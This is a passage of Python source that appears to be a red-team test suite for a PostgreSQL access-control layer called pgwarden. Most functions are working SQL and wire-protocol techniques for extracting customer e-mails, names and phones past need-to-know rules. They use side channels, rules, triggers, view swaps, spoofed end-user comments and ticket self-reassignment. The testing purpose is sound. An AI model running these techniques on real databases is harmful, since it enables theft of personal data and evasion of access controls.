

@technique("notice")
def t_notice_function(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, "CREATE FUNCTION public.shout(text) RETURNS int LANGUAGE plpgsql AS "
             "$$ BEGIN RAISE NOTICE '%', $1; RETURN 1; END $$")  # fmt: skip
    ctx.q(
        c, f'SELECT count(public.shout("Email" || \' \' || "FullName")) FROM customers WHERE {ALL}'
    )
    ctx.q(c, "CREATE FUNCTION public.dump_all() RETURNS int LANGUAGE plpgsql AS $$ DECLARE r record; BEGIN "
             "FOR r IN EXECUTE 'SELECT \"Em' || 'ail\" AS e FROM crm.customers' LOOP RAISE NOTICE '%', r.e; END LOOP; "
             "RETURN 0; END $$")  # fmt: skip
    ctx.q(c, "SELECT public.dump_all()")


@technique("notify")
def t_notify_payload(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, "LISTEN leak")
    ctx.q(
        c,
        f"SELECT count(pg_notify('leak', \"Email\" || ' ' || \"FullName\")) FROM customers WHERE {ALL}",
    )
    ctx.q(c, "SELECT 1")  # make sure every notification was read


@technique("rows")
def t_opaque_function(ctx: Ctx) -> None:
    c = ctx.connect()
    ctx.q(c, "CREATE FUNCTION public.grab() RETURNS SETOF text LANGUAGE plpgsql AS $$ BEGIN "
             "RETURN QUERY EXECUTE 'SELECT \"Em' || 'ail\" || '' '' || \"Full' || 'Name\" FROM crm.customers'; END $$")  # fmt: skip
    ctx.q(c, "SELECT * FROM public.grab()")
    ctx.q(c, "CREATE FUNCTION public.grab_sql() RETURNS TABLE (k bigint, e text) LANGUAGE sql AS "
             "$$ SELECT customer_id, \"Email\" FROM crm.customers $$")  # fmt: skip
    ctx.q(c, "SELECT k, e FROM public.grab_sql()")


# -- the shared application account ---------------------------------------------------------


@technique("rows")
def t_shared_account_rotation(ctx: Ctx) -> None:
    """crm_app, a new end-user name every three statements, paging through the table."""
    c = ctx.connect(sdb.APP_USER)
    names = [*sdb.AGENTS] + [f"temp_{i}" for i in range(200)]
    streak = [0]
    for n, a in enumerate(range(1, N_ALL, 15)):
        who = names[(n // 3) % len(names)]
        r = ctx.q(c, f"/* end_user='{who}' */ SELECT customer_id, \"FullName\", \"Email\" FROM customers "
                     f"WHERE customer_id BETWEEN {a} AND {a + 14}")  # fmt: skip
        if _stop_after(ctx, streak, r is not None):
            break


@technique("rows")
def t_shared_account_set(ctx: Ctx) -> None:
    """crm_app naming a different agent with SET pgwarden.end_user every few statements."""
    c = ctx.connect(sdb.APP_USER)
    streak = [0]
    for n, a in enumerate(range(1, N_ALL, 15)):
        if n % 3 == 0:
            ctx.q(c, f"SET pgwarden.end_user = '{sdb.AGENTS[(n // 3) % len(sdb.AGENTS)]}'")
        r = ctx.q(
            c,
            f'SELECT customer_id, "FullName", "Email" FROM customers WHERE customer_id BETWEEN {a} AND {a + 14}',
        )
        if _stop_after(ctx, streak, r is not None):
            break


@technique("rows")
def t_shared_account_no_end_user(ctx: Ctx) -> None:
    """crm_app naming nobody: judged for the database user itself."""
    c = ctx.connect(sdb.APP_USER)
    streak = [0]
    for a in range(1, N_ALL, 15):
        r = ctx.q(
            c,
            f'SELECT customer_id, "FullName", "Email" FROM customers WHERE customer_id BETWEEN {a} AND {a + 14}',
        )
        if _stop_after(ctx, streak, r is not None):
            break


@technique("rows")
def t_self_assign(ctx: Ctx) -> None:
    """Reassign other agents' open tickets to oneself (an UPDATE agents may run), then read
    those customers. Once reassigned they are inside need-to-know as the policy defines it,
    so they count as inside; how many were another agent's is noted. The tickets are given
    back after."""
    ds = ctx.env.ds
    aid = ds.agent_id(ATTACKER)
    others = [
        t
        for t in ds.tickets
        if t.agent_id not in (None, aid) and t.status != "closed" and not t.restricted
    ][:400]
    before = set(ctx.out.ntk)
    ctx.out.ntk = before | {t.customer_id for t in others}
    c = ctx.connect()
    ids = ",".join(str(t.ticket_id) for t in others)
    try:
        ctx.q(c, f'UPDATE "Tickets" SET assigned_agent_id = {aid} WHERE ticket_id IN ({ids})')
        time.sleep(11)  # the policy caches need-to-know lookups for 10 s
        streak = [0]
        custs = sorted({t.customer_id for t in others})
        for i in range(0, len(custs), 15):
            r = ctx.q(
                c,
                f'SELECT customer_id, "FullName", "Email" FROM customers WHERE customer_id IN ({",".join(map(str, custs[i : i + 15]))})',
            )
            if _stop_after(ctx, streak, r is not None):
                break
    finally:
        ctx.out.notes.append(
            f"{len(ctx.out.customers - before)} customers reached the agent through tickets "
            "reassigned to themselves (inside need-to-know as the policy defines it)"
        )
        with psycopg.connect(ctx.env.pg.dsn(database=sdb.DBNAME), autocommit=True) as direct:
            for t in others:
                direct.execute(
                    'UPDATE crm."Tickets" SET assigned_agent_id = %s WHERE ticket_id = %s',
                    (t.agent_id, t.ticket_id),
                )


# -- rt2: partitions, joins and other new ground --------------------------------------------


@technique("rows")
def t_partition_paging(ctx: Ctx) -> None:
    """A partition of the need-to-know table crm.customer_phones read by its own name, 15
    customers a statement, paging on."""
    c = ctx.connect()
    streak = [0]
    for a in range(1, N_ALL, 15):
        r = ctx.q(c, f"SELECT customer_id, phone FROM customer_phones_mobile "
                     f"WHERE customer_id BETWEEN {a} AND {a + 14}")  # fmt: skip
        if _stop_after(ctx, streak, r is not None):
            break


@technique("rows")
def t_partition_pair_join(ctx: Ctx) -> None:
    """Both partitions in one row, joined on an offset key: 20 rows, 40 customers."""
    c = ctx.connect()
    streak = [0]
    for a in range(1, sdb.CUSTOMERS - 1000, 60):
        r = ctx.q(c, "SELECT a.customer_id, a.phone, b.phone FROM customer_phones_mobile a "
                     "JOIN customer_phones_other b ON b.customer_id = a.customer_id + 1000 "
                     f"WHERE a.customer_id BETWEEN {a} AND {a + 59}")  # fmt: skip
        if _stop_after(ctx, streak, r is not None):
            break


@technique("rows")
def t_rule_instead_select(ctx: Ctx) -> None:
    """A table of one's own with a DO INSTEAD SELECT rule: the INSERT returns the rule's rows."""
    c = ctx.connect()
    ctx.q(c, "CREATE TABLE scratch.rt2_rule (id bigint, v text)")
    ctx.q(c, "CREATE RULE rt2_rule_ins AS ON INSERT TO scratch.rt2_rule DO INSTEAD "
             'SELECT customer_id, "Email", "FullName" FROM crm.customers')  # fmt: skip
    time.sleep(2)  # the catalog is reloaded after DDL
    ctx.q(c, "INSERT INTO scratch.rt2_rule VALUES (1, 'x')")


@technique("error")
def t_trigger_raise(ctx: Ctx) -> None:
    """A trigger on a table of one's own raises the customers it reads: the INSERT names no
    labelled column, so its error text is relayed."""
    c = ctx.connect()
    ctx.q(c, "CREATE TABLE scratch.rt2_tg (id bigint)")
    ctx.q(c, "CREATE FUNCTION scratch.rt2_tgf() RETURNS trigger LANGUAGE plpgsql AS $f$ DECLARE s text; BEGIN "
             "SELECT string_agg(\"Email\" || ' ' || \"FullName\", ',') INTO s FROM crm.customers "
             "WHERE customer_id BETWEEN NEW.id AND NEW.id + 999; RAISE EXCEPTION '%', s; END $f$")  # fmt: skip
    ctx.q(c, "CREATE TRIGGER rt2_tg_b BEFORE INSERT ON scratch.rt2_tg FOR EACH ROW "
             "EXECUTE FUNCTION scratch.rt2_tgf()")  # fmt: skip
    time.sleep(2)
    for a in range(1, N_ALL, 1000):
        ctx.q(c, f"INSERT INTO scratch.rt2_tg VALUES ({a})")


@technique("rows")
def t_trigger_copy(ctx: Ctx) -> None:
    """An AFTER INSERT trigger copies the customer table into a table of one's own; the copy
    is written by no statement pgwarden sees, so it is read as unlabelled."""
    c = ctx.connect()
    ctx.q(c, "CREATE TABLE scratch.rt2_tc (id bigint)")
    ctx.q(c, "CREATE TABLE scratch.rt2_tc_loot (id bigint, e text, n text)")
    ctx.q(c, "CREATE FUNCTION scratch.rt2_tcf() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN "
             'INSERT INTO scratch.rt2_tc_loot SELECT customer_id, "Email", "FullName" FROM crm.customers; '
             "RETURN NEW; END $f$")  # fmt: skip
    ctx.q(c, "CREATE TRIGGER rt2_tc_a AFTER INSERT ON scratch.rt2_tc FOR EACH ROW "
             "EXECUTE FUNCTION scratch.rt2_tcf()")  # fmt: skip
    time.sleep(2)
    ctx.q(c, "INSERT INTO scratch.rt2_tc VALUES (1)")
    ctx.q(c, "SELECT id, e, n FROM scratch.rt2_tc_loot WHERE id > 0")


_RT2_AGG = (  # a plpgsql body: the customers with keys a..b, packed into one text
    "DECLARE s text; BEGIN SELECT string_agg(\"Email\" || ' ' || \"FullName\", ',') INTO s "
    "FROM crm.customers WHERE customer_id BETWEEN a AND b; "
)


@technique("rows")
def t_column_default(ctx: Ctx) -> None:
    """A column DEFAULT calling a function of one's own; INSERT ... RETURNING reads it back."""
    c = ctx.connect()
    ctx.q(c, "CREATE FUNCTION scratch.rt2_dflt() RETURNS text LANGUAGE plpgsql AS $f$ DECLARE a bigint := 1; "
             f"b bigint := {N_ALL}; {_RT2_AGG} RETURN s; END $f$")  # fmt: skip
    ctx.q(c, "CREATE TABLE scratch.rt2_df (id bigint, v text DEFAULT scratch.rt2_dflt())")
    time.sleep(2)
    ctx.q(c, "INSERT INTO scratch.rt2_df (id) VALUES (1) RETURNING id, v")


@technique("rows")
def t_operator_function(ctx: Ctx) -> None:
    """A user-defined operator whose function reads customers: 1 OPERATOR(~~~) 3300."""
    c = ctx.connect()
    ctx.q(c, "CREATE FUNCTION scratch.rt2_opf(a int, b int) RETURNS text LANGUAGE plpgsql AS $f$ "
             f"{_RT2_AGG} RETURN s; END $f$")  # fmt: skip
    ctx.q(
        c, "CREATE OPERATOR scratch.~~~ (FUNCTION = scratch.rt2_opf, LEFTARG = int, RIGHTARG = int)"
    )
    time.sleep(2)
    ctx.q(c, f"SELECT 1 OPERATOR(scratch.~~~) {N_ALL}")


@technique("rows")
def t_user_cast(ctx: Ctx) -> None:
    """A composite type of one's own with a cast to text through a function reading customers."""
    c = ctx.connect()
    ctx.q(c, "CREATE TYPE scratch.rt2_tk AS (a int, b int)")
    ctx.q(c, "CREATE FUNCTION scratch.rt2_castf(x scratch.rt2_tk) RETURNS text LANGUAGE plpgsql AS $f$ "
             "DECLARE a bigint := x.a; b bigint := x.b; " + _RT2_AGG.removeprefix("DECLARE ")
             + " RETURN s; END $f$")  # fmt: skip
    ctx.q(c, "CREATE CAST (scratch.rt2_tk AS text) WITH FUNCTION scratch.rt2_castf(scratch.rt2_tk)")
    time.sleep(2)
    ctx.q(c, f"SELECT ROW(1, {N_ALL})::scratch.rt2_tk::text")


@technique("rows")
def t_generated_column(ctx: Ctx) -> None:
    """A STORED generated column over a function falsely declared IMMUTABLE."""
    c = ctx.connect()
    ctx.q(c, "CREATE FUNCTION scratch.rt2_imm(a bigint) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$ "
             "DECLARE b bigint := a + 999; " + _RT2_AGG.removeprefix("DECLARE ") + " RETURN s; END $f$")  # fmt: skip
    ctx.q(
        c,
        "CREATE TABLE scratch.rt2_gen (id bigint, v text GENERATED ALWAYS AS (scratch.rt2_imm(id)) STORED)",
    )
    time.sleep(2)
    for a in range(1, N_ALL, 1000):
        ctx.q(c, f"INSERT INTO scratch.rt2_gen (id) VALUES ({a}) RETURNING id, v")


@technique("error")
def t_index_expression_raise(ctx: Ctx) -> None:
    """CREATE INDEX on an expression whose (IMMUTABLE-declared) function raises the customers."""
    c = ctx.connect()
    ctx.q(c, "CREATE TABLE scratch.rt2_ix (id bigint)")
    ctx.q(c, "INSERT INTO scratch.rt2_ix VALUES (1)")
    ctx.q(c, "CREATE FUNCTION scratch.rt2_boomi(a bigint) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $f$ "
             f"DECLARE b bigint := {N_ALL}; " + _RT2_AGG.removeprefix("DECLARE ")
             + " RAISE EXCEPTION '%', s; END $f$")  # fmt: skip
    time.sleep(2)
    ctx.q(c, "CREATE INDEX ON scratch.rt2_ix ((scratch.rt2_boomi(id)))")


@technique("rows")
def t_view_swap_in_transaction(ctx: Ctx) -> None:
    """A harmless view of one's own, known to pgwarden; inside a transaction it is replaced by
    one over crm.customers and read at once. pgwarden's catalog is reloaded from committed
    state, so it still sees the harmless view; the ROLLBACK leaves no trace."""
    c = ctx.connect()
    ctx.q(c, "CREATE VIEW scratch.rt2_sw AS SELECT 1::bigint AS id, 'x'::text AS e, 'y'::text AS n")
    time.sleep(2)
    t = ctx.connect()
    ctx.q(t, "BEGIN")
    ctx.q(t, "CREATE OR REPLACE VIEW scratch.rt2_sw AS "
             'SELECT customer_id AS id, "Email" AS e, "FullName" AS n FROM crm.customers')  # fmt: skip
    time.sleep(2)  # however long it takes: the replaced view is not committed
    ctx.q(t, "SELECT id, e, n FROM scratch.rt2_sw WHERE id > 0")
    ctx.q(t, "ROLLBACK")


@technique("rows")
def t_view_swap_multistatement(ctx: Ctx) -> None:
    """The same swap in one simple-query string: replace the view, then read it."""
    c = ctx.connect()
    harmless = "CREATE OR REPLACE VIEW scratch.rt2_sw2 AS SELECT 1::bigint AS id, 'x'::text AS e"
    ctx.q(c, harmless)
    time.sleep(2)
    ctx.q(c, "CREATE OR REPLACE VIEW scratch.rt2_sw2 AS SELECT customer_id AS id, "
             '"Email" || \' \' || "FullName" AS e FROM crm.customers; '
             "SELECT id, e FROM scratch.rt2_sw2 WHERE id > 0")  # fmt: skip


@technique("rows")
def t_function_replace_in_transaction(ctx: Ctx) -> None:
    """A harmless SQL function of one's own; inside a transaction its body is replaced by a
    read of crm.customers and called; rolled back after."""
    c = ctx.connect()
    ctx.q(c, "CREATE FUNCTION scratch.rt2_fy(a bigint) RETURNS TABLE (id bigint, e text, n text) "
             "LANGUAGE sql AS $f$ SELECT a, 'x'::text, 'y'::text $f$")  # fmt: skip
    time.sleep(2)
    t = ctx.connect()
    ctx.q(t, "BEGIN")
    ctx.q(t, "SELECT id, e, n FROM scratch.rt2_fy(1)")
    ctx.q(t, "CREATE OR REPLACE FUNCTION scratch.rt2_fy(a bigint) RETURNS TABLE (id bigint, e text, n text) "
             'LANGUAGE sql AS $f$ SELECT customer_id, "Email", "FullName" FROM crm.customers '
             "WHERE customer_id >= a $f$")  # fmt: skip
    ctx.q(t, "SELECT id, e, n FROM scratch.rt2_fy(1)")
    ctx.q(t, "ROLLBACK")


@technique("rows")
def t_rename_swap_prepared(ctx: Ctx) -> None:
    """PREPARE over an empty table of one's own; in a transaction the table is renamed away
    and a view over crm.customers takes its name; EXECUTE replans against it."""
    c = ctx.connect()
    ctx.q(c, "CREATE TABLE scratch.rt2_pp (id bigint, e text, n text)")
    time.sleep(2)
    t = ctx.connect()
    ctx.q(t, "BEGIN")
    ctx.q(
        t,
        "PREPARE rt2_pp(bigint, bigint) AS SELECT id, e, n FROM scratch.rt2_pp WHERE id BETWEEN $1 AND $2",
    )
    ctx.q(t, "EXECUTE rt2_pp(1, 700)")
    ctx.q(t, "ALTER TABLE scratch.rt2_pp RENAME TO rt2_pp_old")
    ctx.q(t, "CREATE VIEW scratch.rt2_pp AS "
             'SELECT customer_id AS id, "Email" AS e, "FullName" AS n FROM crm.customers')  # fmt: skip
    for a in range(1, N_ALL, 700):  # in chunks: a chunk with a canary is cut, the others are not
        if ctx.q(t, f"EXECUTE rt2_pp({a}, {a + 699})") is None:
            break
    ctx.q(t, "ROLLBACK")


@technique("rows")
def t_set_config_side_channel(ctx: Ctx) -> None:
    """No DDL, plain SELECTs: the WHERE clause appends every customer's e-mail and name to a
    custom setting and is false, so no row (and no key to check) comes back; the setting is
    read with current_setting() afterwards."""
    c = ctx.connect()
    for a in range(1, N_ALL, 1100):
        ctx.q(c, f"SELECT customer_id FROM customers WHERE customer_id BETWEEN {a} AND {a + 1099} "
                 f"AND set_config('rt2.v{a}', coalesce(current_setting('rt2.v{a}', true), '') || ',' "
                 "|| \"Email\" || ' ' || \"FullName\", false) IS NULL")  # fmt: skip
        ctx.q(c, f"SELECT current_setting('rt2.v{a}')")


@technique("rows")
def t_ts_stat_query(ctx: Ctx) -> None:
    """ts_stat() runs the query it is given as text and returns its words: every e-mail."""
    c = ctx.connect()
    ctx.q(c, "SELECT word FROM ts_stat('SELECT to_tsvector(''simple'', \"Em' || 'ail\") "
             "FROM crm.customers')")  # fmt: skip
    ctx.q(c, "SELECT word FROM ts_stat('SELECT to_tsvector(''simple'', replace(phone, '' '', ''''))"
             " FROM crm.customer_phones')")  # fmt: skip


@technique("rows")
def t_stash_function_in_where(ctx: Ctx) -> None:
    """A SQL function of one's own that INSERTs its arguments, called in the WHERE clause with
    each customer's values; the WHERE is false for all, the stash is read after."""
    c = ctx.connect()
    ctx.q(c, "CREATE TABLE scratch.rt2_st (k bigint, e text, n text)")
    ctx.q(c, "CREATE FUNCTION scratch.rt2_stash(k bigint, e text, n text) RETURNS boolean LANGUAGE sql "
             "AS 'INSERT INTO scratch.rt2_st VALUES (k, e, n) RETURNING false'")  # fmt: skip
    time.sleep(2)
    ctx.q(c, 'SELECT customer_id FROM customers WHERE customer_id > 0 '
             'AND scratch.rt2_stash(customer_id, "Email", "FullName")')  # fmt: skip
    ctx.q(c, "SELECT k, e, n FROM scratch.rt2_st WHERE k > 0")


def _fastpath_call(ctx: Ctx, conn: psycopg.Connection, oid: int, args: list[str]) -> str:
    """Send one protocol-level FunctionCall ('F') message on an idle psycopg connection's
    socket (libpq's PQfn, the fast-path interface) and read the answer up to ReadyForQuery.
    Returns the text of everything received (result value and any error)."""
    import socket
    import struct

    body = struct.pack("!I", oid) + struct.pack("!hh", 1, 0) + struct.pack("!h", len(args))
    for a in args:
        b = a.encode()
        body += struct.pack("!i", len(b)) + b
    body += struct.pack("!h", 0)
    msg = b"F" + struct.pack("!I", len(body) + 4) + body
    ctx.stmt += 1
    ctx.out.statements += 1
    s = socket.socket(fileno=__import__("os").dup(conn.pgconn.socket))
    s.settimeout(HANG_SECONDS)
    buf = b""
    texts: list[str] = []
    try:
        s.sendall(msg)
        while True:
            while len(buf) < 5:
                chunk = s.recv(65536)
                if not chunk:
                    raise ConnectionError("connection closed")
                buf += chunk
            n = struct.unpack("!I", buf[1:5])[0]
            while len(buf) < 1 + n:
                chunk = s.recv(65536)
                if not chunk:
                    raise ConnectionError("connection closed")
                buf += chunk
            kind, payload, buf = buf[0:1], buf[5 : 1 + n], buf[1 + n :]
            text = payload.decode(errors="replace")
            if kind == b"E":
                fields = dict((f[:1], f[1:]) for f in text.split("\0") if f)
                ctx.seen("error", text)
                ctx.out.errors += 1
                if fields.get("C") == "42501" and "pgwarden" in text:
                    ctx.out.refused += 1
                    ctx.last_refused = True
                elif fields.get("C", "").startswith("XX"):
                    ctx.out.internal_errors.append(text[:200])
            elif kind == b"V":
                ctx.seen("rows", text)
            texts.append(text)
            if kind == b"Z":
                break
    except (OSError, ConnectionError) as exc:
        ctx.out.notes.append(f"fast-path call: {exc}")
    finally:
        s.close()
    return "\n".join(texts)


@technique("rows")
def t_fastpath_function_call(ctx: Ctx) -> None:
    """The protocol's FunctionCall message (libpq PQfn): query_to_xml(text, ...) called by OID,
    no SQL statement for pgwarden to analyse."""
    c = ctx.connect()
    r = ctx.q(c, "SELECT 'query_to_xml(text,bool,bool,text)'::regprocedure::oid")
    if not r:
        return
    _fastpath_call(ctx, c, int(r[0][0]), [
        'SELECT "Email", "FullName" FROM crm.customers', "t", "f", ""])  # fmt: skip
    _fastpath_call(ctx, c, int(r[0][0]), [
        "SELECT phone FROM crm.customer_phones", "t", "f", ""])  # fmt: skip


@technique("rows")
def t_budget_split_tables(ctx: Ctx) -> None:
    """Only the agent's own customers, 15 a statement, each table of customer data in turn:
    names from crm.customers, then phones from crm.customer_phones for customers not read yet,
    then names from crm.legacy_customers. Is the hourly budget one per person or one per table?"""
    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))
    c = ctx.connect()
    queries = ('SELECT customer_id, "FullName" FROM ONLY customers WHERE customer_id IN ({})',
               "SELECT customer_id, phone FROM customer_phones WHERE customer_id IN ({})",
               'SELECT customer_id, "FullName" FROM legacy_customers WHERE customer_id IN ({})')  # fmt: skip
    todo = list(mine)
    for q in queries:
        streak = [0]
        left = []
        for i in range(0, len(todo), 15):
            chunk = todo[i : i + 15]
            before = set(ctx.out.customers)
            r = ctx.q(c, q.format(",".join(map(str, chunk))))
            left += [k for k in chunk if k not in ctx.out.customers - before]
            if _stop_after(ctx, streak, r is not None, 3):
                left += todo[i + 15 :]
                break
        todo = left


@technique("rows")
def t_directory_own_customers(ctx: Ctx) -> None:
    """Honest use: the agent reads its own customers from the reporting directory with the key
    column selected, as the need-to-know hint asks."""
    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))[:3]
    c = ctx.connect()
    for k in mine:
        ctx.q(
            c,
            f"SELECT customer_id, full_name, email, phone FROM customer_directory WHERE customer_id = {k}",
        )


@technique("rows")
def t_quarantine_traps_transaction(ctx: Ctx) -> None:
    """An agent in a transaction runs into quarantine (one refused statement, then four more
    the aborted transaction makes the server reject). Can it still ROLLBACK?"""
    mine = ctx.env.ds.open_tickets(ATTACKER)[0]
    c = ctx.connect()
    ctx.q(c, "BEGIN")
    ctx.q(c, f'UPDATE "Tickets" SET updated_at = now() WHERE ticket_id = {mine.ticket_id}')
    for _ in range(5):
        ctx.q(c, "SELECT * FROM customers")
    for q in ("ROLLBACK", "COMMIT", "SELECT 1"):
        try:
            c.execute(q)
            what = "ok"
        except psycopg.Error as exc:
            ctx._error(exc)
            what = f"{exc.sqlstate}: {str(exc).strip().splitlines()[0][:110]}"
        ctx.out.notes.append(
            f"{q} after quarantine: {what}; transaction status {c.info.transaction_status.name}"
        )
    with psycopg.connect(ctx.env.pg.dsn(database=sdb.DBNAME), autocommit=True) as direct:
        row = direct.execute("SELECT state FROM pg_stat_activity WHERE pid = %s",
                             (c.info.backend_pid,)).fetchone()  # fmt: skip
        ctx.out.notes.append(f"the agent's server session is left {row[0] if row else 'gone'!r}")


@technique("rows")
def t_ts_rewrite_query(ctx: Ctx) -> None:
    """ts_rewrite(query, select_text) runs the SELECT it is given as text; its substitute is
    a tsquery OR-ing every e-mail, returned as one value."""
    c = ctx.connect()
    for a in range(1, N_ALL, 1100):
        ctx.q(c, "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, to_tsquery(''simple'', "
                 "string_agg(quote_literal(\"Em' || 'ail\"), '' | '')) FROM crm.customers "
                 f"WHERE customer_id BETWEEN {a} AND {a + 1099}')::text")  # fmt: skip


@technique("rows")
def t_shared_account_set_config(ctx: Ctx) -> None:
    """crm_app without the signing key, naming nobody: the set_config side channel."""
    c = ctx.connect(sdb.APP_USER)
    for a in range(1, N_ALL, 1100):
        ctx.q(c, f"SELECT customer_id FROM customers WHERE customer_id BETWEEN {a} AND {a + 1099} "
                 f"AND set_config('rt2.v{a}', coalesce(current_setting('rt2.v{a}', true), '') || ',' "
                 "|| \"Email\" || ' ' || \"FullName\", false) IS NULL")  # fmt: skip
        ctx.q(c, f"SELECT current_setting('rt2.v{a}')")


@technique("rows")
def t_analyst_set_config(ctx: Ctx) -> None:
    """The analyst (masked contact data): the set_config side channel carries the unmasked
    values, the WHERE clause being false for every row."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    for a in range(1, N_ALL, 1100):
        ctx.q(c, f"SELECT customer_id FROM customers WHERE customer_id BETWEEN {a} AND {a + 1099} "
                 f"AND set_config('rt2.v{a}', coalesce(current_setting('rt2.v{a}', true), '') || ',' "
                 "|| \"Email\" || ' ' || \"FullName\", false) IS NULL")  # fmt: skip
        ctx.q(c, f"SELECT current_setting('rt2.v{a}')")


@technique("rows")
def t_analyst_fastpath(ctx: Ctx) -> None:
    """The analyst: query_to_xml called through the protocol's FunctionCall message."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    r = ctx.q(c, "SELECT 'query_to_xml(text,bool,bool,text)'::regprocedure::oid")
    if r:
        _fastpath_call(ctx, c, int(r[0][0]), [
            "SELECT \"Email\", \"FullName\" FROM crm.customers WHERE tier = 'vip'", "t", "f", ""])  # fmt: skip


@technique("rows")
def t_self_assign_via_function(ctx: Ctx) -> None:
    """As self_assign, but the UPDATE of assigned_agent_id (refused at top level) is the body
    of a SQL function of one's own, called from a SELECT. As in self_assign, customers of
    reassigned tickets count as inside need-to-know (the policy's own definition); how many
    were another agent's is noted. The tickets are given back after."""
    ds = ctx.env.ds
    aid = ds.agent_id(ATTACKER)
    others = [
        t
        for t in ds.tickets
        if t.agent_id not in (None, aid) and t.status != "closed" and not t.restricted
    ][:400]
    before = set(ctx.out.ntk)
    ctx.out.ntk = before | {t.customer_id for t in others}
    c = ctx.connect()
    ids = ",".join(str(t.ticket_id) for t in others)
    try:
        ctx.q(c, "CREATE FUNCTION scratch.rt2_take(a int) RETURNS bigint LANGUAGE sql AS "
                 f"'UPDATE crm.\"Tickets\" SET assigned_agent_id = a WHERE ticket_id IN ({ids}) "
                 "RETURNING ticket_id'")  # fmt: skip
        time.sleep(2)
        r = ctx.q(c, f"SELECT scratch.rt2_take({aid})")
        ctx.out.notes.append(f"the reassigning function returned {r!r:.60}")
        time.sleep(11)  # the policy caches need-to-know lookups for 10 s
        streak = [0]
        custs = sorted({t.customer_id for t in others})
        for i in range(0, len(custs), 15):
            r = ctx.q(c, 'SELECT customer_id, "FullName", "Email" FROM customers WHERE customer_id IN '
                         f"({','.join(map(str, custs[i : i + 15]))})")  # fmt: skip
            if _stop_after(ctx, streak, r is not None):
                break
    finally:
        ctx.out.notes.append(
            f"{len(ctx.out.customers - before)} customers reached the agent through tickets "
            "reassigned to themselves by a function (the top-level UPDATE is refused)"
        )
        with psycopg.connect(ctx.env.pg.dsn(database=sdb.DBNAME), autocommit=True) as direct:
            for t in others:
                direct.execute(
                    'UPDATE crm."Tickets" SET assigned_agent_id = %s WHERE ticket_id = %s',
                    (t.agent_id, t.ticket_id),
                )


@technique("rows")
def t_honest_shapes_refused(ctx: Ctx) -> None:
    """Honest use: the agent's own customer (an open ticket of theirs) read in shapes an ORM or
    a report tool writes -- a derived table, a UNION with a constant row, a CTE. Which are
    refused, and with what reason?"""
    k = min(ctx.env.ds.need_to_know(ATTACKER))
    c = ctx.connect()
    for q in (f'SELECT x.* FROM (SELECT customer_id, "Email" FROM customers WHERE customer_id = {k}) x',
              f'SELECT customer_id, "Email" FROM customers WHERE customer_id = {k} UNION ALL SELECT 0, \'-\'',
              f'SELECT x.customer_id, x."Email" FROM (SELECT customer_id, "Email" FROM customers WHERE customer_id = {k}) x',
              f'WITH x AS (SELECT customer_id, "Email" FROM customers WHERE customer_id = {k}) SELECT customer_id, "Email" FROM x'):  # fmt: skip
        if ctx.q(c, q) is None:
            ctx.out.notes.append(
                f"refused: {q[:70]} -> {ctx.out.error_samples[-1][:110] if ctx.out.error_samples else ''}"
            )


@technique("rows")
def t_agent_names_colleague(ctx: Ctx) -> None:
    """agent_ann, logged in as herself (subject agents, no end_user_from in the policy), names
    a colleague in a sqlcommenter comment: need-to-know and the hourly budget become the
    colleague's. Each colleague's customers, 15 a statement, until refused."""
    ds = ctx.env.ds
    c = ctx.connect()
    for who in [a for a in sdb.AGENTS if a != ATTACKER]:
        theirs = sorted(ds.need_to_know(who) - ds.need_to_know(ATTACKER))
        streak = [0]
        for i in range(0, len(theirs), 15):
            ids = ",".join(map(str, theirs[i : i + 15]))
            r = ctx.q(c, f"/* end_user='{who}' */ SELECT customer_id, \"FullName\", \"Email\" "
                         f"FROM customers WHERE customer_id IN ({ids})")  # fmt: skip
            if _stop_after(ctx, streak, r is not None, 3):
                break


@technique("rows")
def t_multi_table_rows(ctx: Ctx) -> None:
    """Only the agent's own customers, but three of them a row: one from crm.customers, one
    from crm.legacy_customers, a third one's phone from crm.customer_phones, paired by
    array position. Each table's key is checked and each table gives 20 rows: 60 customers
    in one statement."""
    mine = sorted(ctx.env.ds.need_to_know(ATTACKER))
    plain = [k for k in mine if k <= sdb.CUSTOMERS]
    legacy = [k for k in mine if k > sdb.CUSTOMERS]
    c = ctx.connect()
    streak = [0]
    for i in range(0, min(len(legacy), len(plain) // 2), 20):
        a = ",".join(map(str, plain[2 * i : 2 * i + 20]))
        b = ",".join(map(str, legacy[i : i + 20]))
        p = ",".join(map(str, plain[2 * i + 20 : 2 * i + 40]))
        r = ctx.q(c, 'SELECT c.customer_id, c."FullName", c."Email", l.customer_id, l."FullName", l."Email", '
                     "p.customer_id, p.phone FROM ONLY customers c "
                     f"JOIN legacy_customers l ON l.customer_id = (ARRAY[{b}])[array_position(ARRAY[{a}]::bigint[], c.customer_id)] "
                     f"JOIN customer_phones p ON p.kind = 'mobile' AND p.customer_id = (ARRAY[{p}])[array_position(ARRAY[{a}]::bigint[], c.customer_id)] "
                     f"WHERE c.customer_id IN ({a})")  # fmt: skip
        if _stop_after(ctx, streak, r is not None, 3):
            break


@technique("rows")
def t_analyst_temp_rule(ctx: Ctx) -> None:
    """The analyst (SELECT and TEMPORARY only): a temporary table with a DO INSTEAD SELECT
    rule; the INSERT returns the rule's rows, unmasked."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    ctx.q(c, "CREATE TEMP TABLE rt2_tr (id int)")
    ctx.q(c, "CREATE RULE rt2_tr_i AS ON INSERT TO pg_temp.rt2_tr DO INSTEAD "
             "SELECT customer_id, \"Email\", \"FullName\" FROM crm.customers WHERE tier = 'vip'")  # fmt: skip
    ctx.q(c, "INSERT INTO rt2_tr VALUES (1)")


@technique("rows")
def t_analyst_ts_stat(ctx: Ctx) -> None:
    """The analyst: ts_stat() over the e-mails, unmasked."""
    ctx.out.analyst = True
    c = ctx.connect(sdb.ANALYST)
    ctx.q(c, "SELECT word FROM ts_stat('SELECT to_tsvector(''simple'', \"Email\") FROM crm.customers "
             "WHERE tier = ''vip''')")  # fmt: skip


def _q_error_fields(ctx: Ctx, conn: psycopg.Connection, query: str) -> None:
